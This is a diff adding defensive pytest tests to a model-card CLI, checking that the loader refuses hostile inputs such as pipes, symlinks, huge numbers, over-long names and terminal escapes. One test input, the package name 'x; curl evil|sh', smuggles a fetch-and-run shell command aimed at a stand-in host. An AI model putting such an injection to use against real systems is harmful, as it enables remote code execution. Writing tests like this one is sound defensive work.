@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -172,3 +173,74 @@ def test_numbers_that_would_fill_the_memory_are_refused(tmp_path: Path) -> None:
     ):
         spec.write_text(text + heard)
         assert_refused(load(spec, tmp_path, "--trust"), "[input", "must")
+
+
+def test_a_pipe_or_a_folder_is_no_file_of_labels(tmp_path: Path) -> None:
+    hostile.harmless_files(tmp_path)
+    os.mkfifo(tmp_path / "pipe.txt")
+    (tmp_path / "folder.txt").mkdir()
+    for name in ("pipe.txt", "folder.txt"):
+        spec = card(tmp_path / "card.toml", file="module.pt", labels=f'"{name}"')
+        assert_refused(load(spec, tmp_path, "--trust"), f"{name}: is no file of labels")
+    told = CliRunner().invoke(main, ["card", str(tmp_path / "net.onnx")], catch_exceptions=False)
+    assert told.exit_code == 0  # and it does not wait for the pipe
+
+
+def test_a_draft_reads_no_labels_from_elsewhere(tmp_path: Path) -> None:
+    (tmp_path / "secret.txt").write_text("a\nb\nc\n")
+    (tmp_path / "model").mkdir()
+    hostile.write_onnx(tmp_path / "model" / "net.onnx")
+    (tmp_path / "model" / "labels.txt").symlink_to(tmp_path / "secret.txt")
+    (tmp_path / "model" / "dangling.txt").symlink_to(tmp_path / "nowhere")
+    told = CliRunner().invoke(main, ["card", str(tmp_path / "model" / "net.onnx")], catch_exceptions=False)
+    assert 'labels = ["class 0", "class 1", "class 2"]' in told.stdout
+
+
+def test_a_hundred_thousand_labels_with_a_twin_are_refused_at_once(tmp_path: Path) -> None:
+    hostile.harmless_files(tmp_path)
+    (tmp_path / "l.txt").write_text("\n".join(f"{i}" for i in range(90_000)) + "\ntwin\ntwin\n")
+    spec = card(tmp_path / "card.toml", file="module.pt", labels='"l.txt"')
+    assert_refused(load(spec, tmp_path, "--trust"), "two labels are called 'twin'")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "n_samples = " + "9" * 5000,
+        "n_samples = 0x" + "f" * 5000,
+        "n_samples = 0x" + "f" * 400,
+        "full_scale = 0x" + "f" * 400,
+        "layout = [" + "0x" + "f" * 5000 + "]",
+        "n_samples = 268435456",
+        '[input.front_end]\nfilterbank = "none"\nstft = { n_fft = 131072, hop_length = 512 }',
+        '[input.front_end]\nfilterbank = "log"\nfmin = 1e-300\nstft = { n_fft = 4096, hop_length = 512 }',
+        "[input.front_end]\nn_bands = 4096\nstft = { n_fft = 131072, hop_length = 512 }",
+    ],
+)
+def test_numbers_without_end_are_one_line(tmp_path: Path, text: str) -> None:
+    hostile.harmless_files(tmp_path)
+    spec = card(tmp_path / "card.toml", file="module.pt")
+    spec.write_text(spec.read_text() + text)
+    assert_refused(load(spec, tmp_path, "--trust"), "card.toml: ")
+
+
+@pytest.mark.parametrize("name", ["__main__", "..", "os", "x; curl evil|sh", "no_such_package"])
+def test_packages_that_are_none_are_refused_without_advice_to_install_them(tmp_path: Path, name: str) -> None:
+    spec = card(tmp_path / "card.toml", file="x.pt", settings=f'package = "{name}"')
+    refused = load(spec, tmp_path, "--trust")
+    assert_refused(refused, "is not installed")
+    assert "pip" not in refused.stderr
+
+
+def test_names_that_no_system_has_are_refused(tmp_path: Path) -> None:
+    long = "x" * 300
+    assert_refused(load(Path(long), tmp_path), "300 letters")
+    assert_refused(load(card(tmp_path / "card.toml", file=long), tmp_path))
+    hostile.harmless_files(tmp_path)
+    assert_refused(load(card(tmp_path / "card.toml", file="module.pt", labels=f'"{long}"'), tmp_path, "--trust"))
+
+
+def test_what_a_terminal_would_obey_is_escaped(tmp_path: Path) -> None:
+    (tmp_path / "card.toml").write_text('["\\u001b]0;title\\u0007"]\n')
+    refused = load(tmp_path / "card.toml", tmp_path)
+    assert_refused(refused, "\\x1b]0;title\\x07")
